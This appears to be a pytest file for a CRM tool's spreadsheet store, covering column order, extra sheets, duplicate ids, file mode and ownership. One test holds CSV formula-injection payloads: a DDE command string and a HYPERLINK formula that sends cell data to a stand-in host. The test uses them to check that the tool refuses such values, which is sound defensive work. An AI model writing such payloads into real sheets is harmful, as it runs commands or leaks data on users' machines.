"""Spreadsheet specifics: unknown columns and their order survive, other sheets survive, bad sheets are named."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import openpyxl
import openpyxl.styles
import pandas as pd
import pytest

from crm_hygiene.model import CONTACT, Entity
from crm_hygiene.pipeline.snapshot import take_snapshot
from crm_hygiene.stores import FieldChange, Outcome, SpreadsheetRecordStore, StoreError, open_store


def _user_sheet() -> pd.DataFrame:
    """A sheet as a team keeps it: their own columns between ours, no bookkeeping columns."""
    return pd.DataFrame(
        {
            "id": ["C1", "C2"],
            "Lead Source": ["Webinar", "Trade show"],
            "first_name": ["ann", "Bob"],
            "email": ["ANN@ACME.COM", ""],
            "Notes, free text": ['called twice; "hot"', ""],
        }
    )


def test_csv_keeps_unknown_columns_their_order_and_values(tmp_path: Path) -> None:
    folder = tmp_path / "crm"
    folder.mkdir()
    _user_sheet().to_csv(folder / "contacts.csv", index=False)
    store = SpreadsheetRecordStore(folder, default_tenant="acme")
    snap = store.snapshot("acme", Entity.CONTACT)
    assert list(snap.columns) == [*CONTACT.fields, "Lead Source", "Notes, free text"]
    report = store.apply_changes(
        "acme", [FieldChange(Entity.CONTACT, "C1", "email", "ANN@ACME.COM", "ann@acme.com")]
    )
    assert report.ok
    written = pd.read_csv(folder / "contacts.csv", dtype=str, keep_default_na=False)
    header = list(written.columns)
    assert header[:5] == ["id", "Lead Source", "first_name", "email", "Notes, free text"]
    assert set(header[5:]) == set(CONTACT.fields) - {"id", "first_name", "email"}
    assert list(written["Notes, free text"]) == ['called twice; "hot"', ""]
    assert list(written["Lead Source"]) == ["Webinar", "Trade show"]
    assert list(written["email"]) == ["ann@acme.com", ""]
    assert list(written["version"]) == ["2", "1"]


def test_xlsx_keeps_other_sheets(tmp_path: Path) -> None:
    book = tmp_path / "crm.xlsx"
    with pd.ExcelWriter(book, engine="openpyxl") as writer:
        _user_sheet().to_excel(writer, sheet_name="contacts", index=False)
        pd.DataFrame({"quarter": ["Q1"], "target": ["100"]}).to_excel(
            writer, sheet_name="targets", index=False
        )
    store = open_store(f"spreadsheet:{book}", default_tenant="acme")
    store.apply_changes("acme", [FieldChange(Entity.CONTACT, "C2", "first_name", "Bob", "Robert")])
    sheets = pd.read_excel(book, sheet_name=None, dtype=str, keep_default_na=False)
    assert set(sheets) == {"contacts", "targets"}
    assert sheets["targets"].to_dict("list") == {"quarter": ["Q1"], "target": ["100"]}
    assert list(sheets["contacts"]["first_name"]) == ["ann", "Robert"]
    assert list(sheets["contacts"]["Lead Source"]) == ["Webinar", "Trade show"]


def test_repeated_ids_are_flagged_in_the_snapshot_and_not_written(tmp_path: Path) -> None:
    folder = tmp_path / "crm"
    folder.mkdir()
    sheet = _user_sheet()
    sheet.loc[1, "id"] = "C1"
    sheet.to_csv(folder / "contacts.csv", index=False)
    store = SpreadsheetRecordStore(folder, default_tenant="acme")
    snap = take_snapshot(store, "acme")[Entity.CONTACT].frame
    assert len(snap) == 2
    assert list(snap["issues"]) == ["id: repeated in the snapshot"] * 2
    report = store.apply_changes("acme", [FieldChange(Entity.CONTACT, "C1", "first_name", "ann", "Ann")])
    assert report.results[0].outcome is Outcome.REJECTED
    assert "appears 2 times" in report.results[0].reason
    assert list(pd.read_csv(folder / "contacts.csv", dtype=str)["first_name"]) == ["ann", "Bob"]


def test_unreadable_files_are_named(tmp_path: Path) -> None:
    book = tmp_path / "broken.xlsx"
    book.write_bytes(b"this is not a workbook")
    with pytest.raises(StoreError, match=r"broken\.xlsx"):
        SpreadsheetRecordStore(book).snapshot("default", Entity.CONTACT)
    with pytest.raises(StoreError, match="cannot tell what kind of store"):
        open_store("crm.sqlite")


def test_an_empty_csv_file_is_named_in_one_line(tmp_path: Path) -> None:
    folder = tmp_path / "crm"
    folder.mkdir()
    (folder / "contacts.csv").write_bytes(b"")
    with pytest.raises(StoreError, match=r"cannot read contacts\.csv: the file is empty \(no header row\)$"):
        SpreadsheetRecordStore(folder).snapshot("default", Entity.CONTACT)
    assert (folder / "contacts.csv").read_bytes() == b""


def test_a_rewrite_keeps_the_files_mode_and_byte_order_mark(tmp_path: Path) -> None:
    folder = tmp_path / "crm"
    folder.mkdir()
    sheet = folder / "contacts.csv"
    # Excel's "CSV UTF-8" starts with a byte-order mark; a shared folder's file is group-readable.
    sheet.write_bytes(b"\xef\xbb\xbfid,first_name,email\r\nC1,ann,ann@acme.com\r\nC2,Bob,bob@acme.com\r\n")
    sheet.chmod(0o640)
    store = SpreadsheetRecordStore(folder, default_tenant="acme")
    snap = store.snapshot("acme", Entity.CONTACT)
    assert list(snap["id"]) == ["C1", "C2"], "the mark is not part of the first header"
    report = store.apply_changes("acme", [FieldChange(Entity.CONTACT, "C1", "first_name", "ann", "Ann")])
    assert report.results[0].outcome is Outcome.APPLIED
    assert sheet.read_bytes().startswith(b"\xef\xbb\xbfid,")
    assert stat.S_IMODE(sheet.stat().st_mode) == 0o640
    assert list(pd.read_csv(sheet, dtype=str, encoding="utf-8-sig")["first_name"]) == ["Ann", "Bob"]


@pytest.mark.parametrize("sheet", ["crm", "crm.xlsx"])
def test_the_tool_never_puts_new_formula_text_in_a_sheet(tmp_path: Path, sheet: str) -> None:
    # OWASP CSV injection: a cell starting with = + - @ tab or CR runs as a formula.
    path = tmp_path / sheet
    frame = pd.DataFrame(
        {
            "id": ["C1", "C2", "C3", "C4"],
            "phone": ["(415) 555-0100", "+1 415 555 0101", "", "-"],
            "title": ["CEO", "CTO", "", "=1+1"],
        }
    )
    if sheet.endswith(".xlsx"):
        _workbook_of_text(path, {"contacts": frame})
    else:
        path.mkdir()
        frame.to_csv(path / "contacts.csv", index=False)
    store = SpreadsheetRecordStore(path, default_tenant="acme")
    changes = [
        # New formula-like text: refused with the reason.
        FieldChange(Entity.CONTACT, "C1", "phone", "(415) 555-0100", "+cmd|' /C calc'!A0"),
        FieldChange(Entity.CONTACT, "C1", "title", "CEO", '=HYPERLINK("http://x.example/?"&A1)'),
        FieldChange(Entity.CONTACT, "C2", "title", "CTO", "@SUM(1)"),
        FieldChange(Entity.CONTACT, "C2", "first_name", None, "\tTab"),
        # A value the sheet already holds in that column (a merge copying a stored phone).
        FieldChange(Entity.CONTACT, "C3", "phone", None, "+1 415 555 0101"),
        # A cell that already starts so (the team wrote it): theirs to keep changing.
        FieldChange(Entity.CONTACT, "C4", "title", "=1+1", "=2+2"),
        FieldChange(Entity.CONTACT, "C4", "phone", "-", "- none -"),
        # A number or an international phone number runs nothing.
        FieldChange(Entity.CONTACT, "C2", "phone", "+1 415 555 0101", "+14155550101"),
    ]
    results = store.apply_changes("acme", changes).results
    outcomes = [r.outcome for r in results]
    assert outcomes == [Outcome.REJECTED] * 4 + [Outcome.APPLIED] * 4
    assert results[0].reason == (
        "not written: a sheet cell starting with '+' is run as a formula by spreadsheet programs"
    )
    rows = store.snapshot("acme", Entity.CONTACT).set_index("id")
    assert rows.at["C1", "phone"] == "(415) 555-0100" and rows.at["C1", "title"] == "CEO"
    assert rows.at["C3", "phone"] == "+1 415 555 0101" and rows.at["C4", "title"] == "=2+2"
    assert rows.at["C2", "phone"] == "+14155550101"


def _workbook_of_text(path: Path, sheets: dict[str, pd.DataFrame]) -> None:
    """A workbook whose cells are text as typed (`'=1+1` in Excel), not formulas."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, frame in sheets.items():
        sheet = book.create_sheet(name)
        sheet.append(list(frame.columns))
        for row in frame.itertuples(index=False):
            sheet.append([v or None for v in row])
        for cells in sheet.iter_rows():
            for cell in cells:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    book.save(path)


def test_a_workbook_keeps_formulas_styles_and_text_that_looks_like_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "crm.xlsx"
    book = openpyxl.Workbook()
    contacts = book.active
    contacts.title = "contacts"
    contacts.append(["id", "first_name", "email", "Score", "Note"])
    contacts.append(["C1", "ann", "ANN@ACME.COM", "=LEN(B2)", "=not a formula"])
    contacts.append(["C2", "Bob", "bob@acme.com", "=LEN(B3)", "plain"])
    contacts["E2"].data_type = "s"
    contacts["B1"].font = openpyxl.styles.Font(bold=True)
    contacts.column_dimensions["C"].width = 40
    contacts.freeze_panes = "A2"
    targets = book.create_sheet("targets")
    targets.append(["quarter", "target", "double"])
    targets.append(["Q1", 100, "=B2*2"])
    book.save(path)

    store = SpreadsheetRecordStore(path, default_tenant="acme")
    report = store.apply_changes(
        "acme", [FieldChange(Entity.CONTACT, "C1", "email", "ANN@ACME.COM", "ann@acme.com")]
    )
    assert report.results[0].outcome is Outcome.APPLIED

    saved = openpyxl.load_workbook(path)
    contacts, targets = saved["contacts"], saved["targets"]
    assert contacts["C2"].value == "ann@acme.com"
    assert (contacts["D2"].value, contacts["D3"].value) == ("=LEN(B2)", "=LEN(B3)"), "formulas kept"
    assert (contacts["E2"].value, contacts["E2"].data_type) == ("=not a formula", "s"), "text stays text"
    assert contacts["B1"].font.bold and contacts.column_dimensions["C"].width == 40
    assert contacts.freeze_panes == "A2"
    assert [c.value for c in targets[2]] == ["Q1", 100, "=B2*2"], "another sheet untouched"
    header = [c.value for c in contacts[1]]
    assert header[:5] == ["id", "first_name", "email", "Score", "Note"] and "version" in header
    assert contacts.cell(row=2, column=header.index("version") + 1).value == "2"


@pytest.mark.skipif(os.geteuid() != 0, reason="only a privileged process can give a file to another owner")
def test_a_rewrite_keeps_the_files_owner(tmp_path: Path) -> None:
    folder = tmp_path / "crm"
    folder.mkdir()
    sheet = folder / "contacts.csv"
    sheet.write_bytes(b"id,first_name\nC1,ann\n")
    os.chown(sheet, 4321, 4322)  # the team's account, not the writer's
    store = SpreadsheetRecordStore(folder, default_tenant="acme")
    assert store.apply_changes("acme", [FieldChange(Entity.CONTACT, "C1", "first_name", "ann", "Ann")]).ok
    assert (sheet.stat().st_uid, sheet.stat().st_gid) == (4321, 4322)
